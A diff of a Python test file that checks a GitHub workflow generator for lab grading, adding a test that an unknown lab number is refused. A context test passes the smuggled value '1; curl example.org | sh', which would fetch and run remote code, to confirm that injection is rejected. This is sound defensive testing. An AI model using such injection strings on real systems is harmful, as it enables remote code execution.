@@ -25,6 +25,11 @@ def test_the_workflow_grades_the_wanted_labs() -> None:
     assert "run: make grade ||" in github.workflow()
 
 
+def test_a_lab_that_there_is_not_is_refused() -> None:
+    with pytest.raises(WorkflowError, match="there is no lab 9; the labs are 1, 2, 3, 4, 5"):
+        github.workflow(lab="9")
+
+
 def test_labs_cannot_smuggle_in_a_command() -> None:
     with pytest.raises(WorkflowError):
         github.workflow(lab="1; curl example.org | sh")
